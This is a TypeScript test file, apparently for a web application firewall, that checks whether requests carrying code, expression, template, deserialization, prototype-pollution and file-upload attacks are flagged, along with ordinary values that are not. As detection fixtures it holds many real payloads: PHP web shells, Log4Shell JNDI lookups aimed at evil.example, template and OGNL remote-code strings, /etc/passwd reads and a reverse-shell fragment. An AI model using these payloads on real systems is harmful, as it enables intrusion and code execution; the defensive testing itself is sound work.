import { describe, expect, test } from "vitest";
import { inspectRequest } from "./inspect.ts";
import { look, valueOf } from "./test-values.ts";
import { expressions } from "./expressions/index.ts";
import { withoutLookups } from "./expressions/jndi.ts";
import { objects } from "./objects.ts";
import { php } from "./php.ts";
import { prototypes } from "./prototypes.ts";
import { scripts } from "./scripts.ts";
import type { WebRequest } from "./types.ts";
import { uploads } from "./uploads.ts";

const INSPECTORS = [php, scripts, expressions, objects, prototypes, uploads];
const kindOf = (request: Partial<WebRequest>): string | undefined =>
  inspectRequest({ target: "/", headers: [], ...request }, INSPECTORS).kind;
const kindOfQuery = (text: string, name = "x"): string | undefined =>
  kindOf({ target: `/p?${name}=${encodeURIComponent(text)}` });

describe("code that is found", () => {
  test.each([
    "<?php echo 1;?>",
    "<?=`id`?>",
    "phpinfo()",
    "phpinfo();",
    "1;phpinfo()",
    "system('id')",
    "');system('id');//",
    "';phpinfo();'",
    "print(md5(31337));",
    "die(@md5(1))",
    "${@print(md5(1))}",
    "{${phpinfo()}}",
    "assert(base64_decode('x'))",
    "('sys'.'tem')('id')",
    "(sy.(st).em)(whoami)",
    "$a='system';$a('id')",
    "file_put_contents('a.php','x')",
    "call_user_func('system','id')",
    "echo 12345*2;",
    "require('child_process').exec('id')",
    "global.process.mainModule.require('child_process').execSync('id')",
    "__import__('os').system('id')",
    "import os;os.system('id')",
    "eval(compile('x','y','exec'))",
    "open('/etc/passwd').read()",
    "Runtime.getRuntime().exec('id')",
    "'id'.execute()",
    "new java.lang.ProcessBuilder('id').start()",
    "os.execute('id')",
    "IO.popen('id').read",
    "%x(id)",
    "response.write(9*9)",
    "use Socket;$i='10.0.0.1'",
  ])("code: %s", (text) => expect(kindOfQuery(text)).toBe("code_injection"));

  test.each([
    "<?php @eval($_POST['c']);?>",
    "eval($_REQUEST[1])",
    "$_GET[0]($_GET[1])",
    "system($_GET['c'])",
  ])("a web shell: %s", (text) => expect(kindOfQuery(text)).toBe("web_shell"));

  test.each([
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}${upper:n}d${::-i}:ldap://evil.example/a}",
    "${${env:X:-j}ndi${env:X:-:}ldap://e.example}",
    "${jn${lower:d}i:rmi://e.example/a}",
    "${script:javascript:java.lang.Runtime.getRuntime()}",
    "${url:UTF-8:http://evil.example}",
    "${dns:address|evil.example}",
    "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "#{T(java.lang.System).getenv()}",
    "${pageContext.request.getSession()}",
    "''.getClass().forName('java.lang.Runtime')",
    "@java.lang.Runtime@getRuntime().exec('id')",
    "${\"\".getClass().forName('x')}",
    "*{T(java.lang.Math).random()}",
    "%{1337*7}",
  ])("an expression: %s", (text) => expect(kindOfQuery(text)).toBe("expression_injection"));

  test.each([
    "{{7*7}}",
    "{{7*'7'}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{config.items()}}",
    "{{config}}",
    "{{request.application.__globals__}}",
    "{{lipsum.__globals__['os'].popen('id').read()}}",
    "{{''|attr('__cl'+'ass__')}}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}",
    "{{['id']|filter('system')}}",
    "{% import os %}{{os.popen('id').read()}}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    '${"freemarker.template.utility.Execute"?new()("id")}',
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
    "<%= system('id') %>",
    "<%= File.open('/etc/passwd').read %>",
    "{php}echo `id`;{/php}",
    "{system('id')}",
    "{$smarty.version}",
    "{{constructor.constructor('return process')()}}",
    '{{#with "s" as |string|}}{{string.sub.constructor}}{{/with}}',
    "{{range.constructor('return 1')()}}",
    "{{dump(app)}}",
  ])("a template: %s", (text) => expect(kindOfQuery(text)).toBe("template_injection"));

  test.each([
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
    "aced0005737200",
    'O:8:"stdClass":1:{s:1:"a";i:1;}',
    'a:1:{i:0;O:4:"Evil":0:{}}',
    "cos\nsystem\n(S'id'\ntR.",
    "AAEAAAD/////AQAAAAAAAAAMAgAAAE",
    "_$$ND_FUNC$$_function(){}()",
    "!!python/object/apply:os.system ['id']",
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader []]",
    "--- !ruby/object:Gem::Installer",
  ])("an object: %s", (text) => expect(kindOfQuery(text)).toBe("deserialization"));

  test.each([
    ['{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"x"}', "deserialization"],
    ["<java.util.PriorityQueue serialization='custom'></java.util.PriorityQueue>", "deserialization"],
    ['<java version="1.8" class="java.beans.XMLDecoder"><void method="start"/></java>', "deserialization"],
    ['{"__proto__":{"admin":true}}', "prototype_pollution"],
    ['{"a":{"constructor":{"prototype":{"x":1}}}}', "prototype_pollution"],
    ["__proto__[admin]=1", "prototype_pollution"],
  ])("in a body: %s", (body, kind) => expect(kindOf({ method: "POST", body })).toBe(kind));

  test.each(["/?__proto__[x]=1", "/?constructor[prototype][x]=1", "/?a[__proto__].b=1", "/?__proto__.x=1"])(
    "prototype pollution: %s",
    (target) => expect(kindOf({ target })).toBe("prototype_pollution"),
  );

  test("Spring4Shell's parameter name", () => {
    expect(
      kindOf({ target: "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x" }),
    ).toBe("expression_injection");
  });
});

const file = (name: string, content: string): string =>
  `--B\r\nContent-Disposition: form-data; name="f"; filename="${name}"\r\n\r\n${content}\r\n--B--`;

describe("uploads", () => {
  test.each([
    ["a.php", "x"],
    ["a.phtml", "x"],
    ["a.php.jpg", "x"],
    ["a.jpg.php", "x"],
    ["a.asp;.jpg", "x"],
    ["a.jsp", "x"],
    ["a.aspx.", "x"],
    [".htaccess", "AddType application/x-httpd-php .jpg"],
    ["a.gif", "GIF89a<?php system($_GET['c']);?>"],
    ["a.txt", "<?php @eval($_POST['x']);"],
    ["a.png", '<%= Runtime.getRuntime().exec("id") %>'],
  ])("%s", (name, content) =>
    expect(kindOf({ method: "POST", body: file(name, content) })).toBe("file_upload"),
  );

  test.each([
    ["photo.jpg", "\u00ff\u00d8\u00ff\u00e0"],
    ["notes.txt", "How to use <b>php</b>"],
    ["report.final.pdf", "%PDF-1.4"],
    ["archive.tar.gz", "x"],
    ["my.project.plan.docx", "PK"],
  ])("an ordinary file: %s", (name, content) =>
    expect(kindOf({ method: "POST", body: file(name, content) })).toBeUndefined(),
  );

  test("a script put onto the server", () => {
    expect(kindOf({ method: "PUT", target: "/x.jsp/", body: "x" })).toBe("file_upload");
    expect(kindOf({ method: "PUT", target: "/api/items/1", body: "x" })).toBeUndefined();
  });
});

describe("ordinary values", () => {
  test.each([
    ["{{name}}", "x"],
    ["Hello {{ user.first_name }}", "x"],
    ["{{base_url}}/users", "url"],
    ["${name}", "x"],
    ["%{name}", "x"],
    ["#{id}", "x"],
    ["a(b)", "q"],
    ["f(x)=2", "q"],
    ["system requirements (Windows)", "q"],
    ["how to call system() in php", "q"],
    ["O'Reilly", "q"],
    ["2*(3+4)", "q"],
    ["eval and exec", "q"],
    ["C#", "q"],
    ['a:2:{s:1:"a";i:1;}', "x"],
    ['{"@type":"Person"}', "x"],
    ["com.example.app", "package"],
    ["en_US", "constructor"],
    ["#section-1", "hash"],
    ["@john please import the file", "q"],
    ["rgb(1,2,3)", "color"],
    ["translate(10px, 20px)", "t"],
    ["$9.99 (sale)", "price"],
    ["[[Main Page]]", "title"],
  ])("%s", (text, name) => expect(kindOfQuery(text, name)).toBeUndefined());

  test.each([
    JSON.stringify({ content: "Use `<?php echo $name; ?>` in the template to print the name of the user." }),
    JSON.stringify({ body: "import os\n\nprint(os.listdir('.'))\n\n# How do I list the files of a folder?" }),
    JSON.stringify({ template: "{% for p in products %}{{ p.title|escape }}{% endfor %}" }),
    JSON.stringify({ code: "const fs = require('fs');\nfs.readFileSync(process.argv[2]);\n" }),
    JSON.stringify({ text: "Runtime.getRuntime().exec(cmd) is how Java runs a program, is it not?" }),
    JSON.stringify({ html: "<div>{{#if user}}{{user.name}}{{/if}}</div>" }),
    JSON.stringify({ "@context": "https://schema.org", "@type": "Person", name: "Ann" }),
    JSON.stringify({ stacktrace: "at java.lang.Thread.run(Thread.java:748)\nat org.apache.catalina.core.X" }),
  ])("a body: %s", (body) => expect(kindOf({ method: "POST", body })).toBeUndefined());
});

test("inner lookups are resolved to what they yield", () => {
  expect(withoutLookups("${${::-j}${upper:n}di:ldap://x}")).toBe("${jndi:ldap://x}");
});

test("is bounded on hostile input", () => {
  const hostile = [
    "${".repeat(30_000),
    "{{".repeat(30_000),
    "a(".repeat(30_000),
    "<?php ".repeat(9_000),
    'O:1:"'.repeat(9_000),
    "('a'.".repeat(9_000),
    "${a:-".repeat(9_000),
  ];
  for (const text of hostile) {
    for (const inspector of INSPECTORS) expect(look(inspector, [valueOf(text)]).length).toBeLessThan(20);
  }
});
